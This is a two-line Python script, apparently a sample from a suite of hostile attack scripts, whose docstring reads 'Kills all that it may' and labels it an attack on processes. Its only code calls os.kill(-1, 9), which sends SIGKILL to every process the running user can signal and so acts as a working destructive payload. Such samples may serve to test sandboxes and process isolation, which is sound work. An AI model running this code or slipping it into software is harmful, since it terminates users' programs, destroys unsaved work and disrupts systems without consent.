"""Kills all that it may.

attack: processes
"""
import os
os.kill(-1, 9)
